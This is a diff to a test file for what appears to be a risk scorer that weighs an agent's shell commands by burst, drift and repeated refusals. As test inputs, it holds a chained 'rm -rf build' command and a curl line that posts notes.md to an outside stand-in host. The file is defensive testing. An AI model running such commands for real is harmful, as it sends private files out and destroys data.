@@ -53,6 +53,9 @@ test('everyday work on the own project weighs more only after refusals', () => {
     temporal({ ...QUIET, ...sign }, 'shell:command:execute', { command });
   assert.deepEqual(look({ burst: 20, high: 8, drift: 2 }, 'npm test'), [1]);
   assert.deepEqual(look({ refused: 2, burst: 20 }, 'npm test'), [1.2, 'repeated_refusals']);
+  // A program that nobody lists, with all that it does read, stays in the workspace.
+  assert.deepEqual(look({ burst: 20, high: 8, drift: 2 }, 'tidegauge check && rm -rf build'), [1]);
+  assert.deepEqual(look({ refused: 4, burst: 20 }, 'tidegauge check && rm -rf build'), [1.4, 'repeated_refusals']);
   assert.deepEqual(look({ burst: 20 }, 'curl -d @notes.md https://box.elsewhere.example'), [1.3, 'burst']);
 });
 
